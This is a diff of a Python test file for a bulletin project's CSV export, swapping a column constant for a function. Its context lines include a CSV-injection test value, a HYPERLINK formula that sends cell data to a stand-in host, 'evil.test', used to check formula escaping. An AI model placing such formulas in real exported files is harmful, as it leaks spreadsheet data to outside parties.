@@ -16,7 +16,7 @@ from hypothesis import given, settings, strategies as st
 
 from helpers import build
 
-from safety_bulletins.outputs.spreadsheet import CODE_COLUMNS, FORMULA_STARTS, csv_text, directive_columns, safe_cell
+from safety_bulletins.outputs.spreadsheet import FORMULA_STARTS, code_columns, csv_text, directive_columns, safe_cell
 
 HOSTILE_TITLES = [
     '=HYPERLINK("http://evil.test/?"&A1,"Details")',
@@ -119,15 +119,15 @@ def test_directives_csv_holds_every_value_of_directives_json(hostile_site):
     data = (hostile_site / "directives.csv").read_bytes()
     assert b"\r\n" in data and data.count(b"\r\n") == len(read_csv(data))  # CRLF after every row
     rows = read_csv(data)
-    assert rows[0] == [*directive_columns(), *CODE_COLUMNS]
+    assert rows[0] == [*directive_columns(), *code_columns()]
     records = json.loads((hostile_site / "directives.json").read_text(encoding="utf-8"))["directives"]
     assert [r[0] for r in rows[1:]] == [r["id"] for r in records]
     for row, record in zip(rows[1:], records):
-        *cells, history = [unquote(c) for c in row[:-len(CODE_COLUMNS)]]
+        *cells, history = [unquote(c) for c in row[:-len(code_columns())]]
         assert cells == expected_cells(record)
         codes = (record["units"], record["support"], record["status"], record["bucket"], record["grade"],
                  record["accepted_by"], record["bulletin"]["type"])
-        assert row[-len(CODE_COLUMNS):] == ["; ".join(c) if isinstance(c, list) else c or "" for c in codes]
+        assert row[-len(code_columns()):] == ["; ".join(c) if isinstance(c, list) else c or "" for c in codes]
         assert [line.rsplit(" <", 1)[1] for line in history.split("\n") if line] == \
                [h["url"] + ">" for h in record["history"]]
         for cell in row:
